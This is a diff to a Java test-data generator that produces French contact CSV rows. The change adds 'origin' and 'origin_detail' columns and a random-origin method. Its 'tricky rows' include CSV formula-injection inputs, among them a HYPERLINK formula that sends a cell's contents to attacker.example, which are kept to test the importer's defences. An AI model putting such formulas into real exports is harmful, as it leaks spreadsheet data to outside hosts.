@@ -25,7 +25,7 @@ public final class FrenchContacts {
     static final String HEADER = "email,first_name,last_name,company,email_optin,email_status,"
             + "mobile,sms_optin,mobile_status,created_at,updated_at,activity_level,"
             + "bounce_category,bounce_detail,do_not_track,custom.city,custom.postcode,"
-            + "custom.loyalty_points,custom.birthday,custom.notes";
+            + "custom.loyalty_points,custom.birthday,custom.notes,origin,origin_detail";
 
     private static final String[] FIRST_NAMES = {
         "Hélène", "Zoë", "Éloïse", "François", "Jérôme", "Gaëlle", "Anaïs",
@@ -62,15 +62,19 @@ public final class FrenchContacts {
     private static final String[] TRICKY_ROWS = {
         "paul.durand@example.org,"
             + "\"=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A2,\"\"Click\"\")\","
-            + "Durand,ACME,true,valid,+33612345678,true,valid,,,3,,,false,Lyon,01000,-20,,",
+            + "Durand,ACME,true,valid,+33612345678,true,valid,,,3,,,false,Lyon,01000,-20,,,,",
         "ines.roux@example.org,@SUM(1+1),Roux,-2+3,true,valid,+353871234567,false,valid,,,2,,,"
-            + "false,Dublin,D02 X285,15,,",
-        "eve.morel@example.org,=1+1,Morel,+1-1,true,valid,,,,,,1,,,false,Nantes,44000,,,",
+            + "false,Dublin,D02 X285,15,,,,",
+        "eve.morel@example.org,=1+1,Morel,+1-1,true,valid,,,,,,1,,,false,Nantes,44000,,,,,",
         "jeanne.martin@example.org,Jeanne,Martin,\"Martin, Dupont & Fils\",true,valid,,,,,,4,,,"
-            + "false,Lyon,69003,12,1985-04-12,\"Prefers \"\"Jeanne\"\" not \"\"Jeannette\"\"\"",
+            + "false,Lyon,69003,12,1985-04-12,\"Prefers \"\"Jeanne\"\" not \"\"Jeannette\"\"\","
+            + "web_form,Page contact",
         "luc.bernard@example.org,Luc,Bernard,\"Café; Bar Léon\",true,valid,,,,,,0,,,false,"
-            + "Paris,75011,,,\"Line one\nLine two\"",
-        ",,,,,,+33611223344,true,valid,,,0,,,false,,,,,"};
+            + "Paris,75011,,,\"Line one\nLine two\",,",
+        ",,,,,,+33611223344,true,valid,,,0,,,false,,,,,,sms_keyword,FLEURS"};
+
+    private static final String[] WEB_FORMS = {
+        "Inscription newsletter", "Jeu concours de Noël", "Page contact"};
 
     private final Random random;
 
@@ -126,7 +130,24 @@ public final class FrenchContacts {
                 : String.format("%d-%02d-%02d", 1950 + random.nextInt(55),
                         1 + random.nextInt(12), 1 + random.nextInt(28))).append(',');
         boolean noted = random.nextInt(50) == 0;
-        field(row, noted ? "Client fidèle, préfère être appelé le matin" : "");
+        field(row, noted ? "Client fidèle, préfère être appelé le matin" : "").append(',');
+        appendOrigin(row);
+    }
+
+    /** Appends origin and origin_detail: where the contact came from. */
+    private void appendOrigin(StringBuilder row) {
+        int dice = random.nextInt(100);
+        if (dice < 40) {
+            row.append("web_form,").append(pick(WEB_FORMS));
+        } else if (dice < 75) {
+            row.append("import,").append("Fichier salon 2024");
+        } else if (dice < 88) {
+            row.append("api,");
+        } else if (dice < 95) {
+            row.append("manual,");
+        } else {
+            row.append("sms_keyword,FLEURS");
+        }
     }
 
     /** Appends email_optin and email_status; returns the status ("" without an email). */
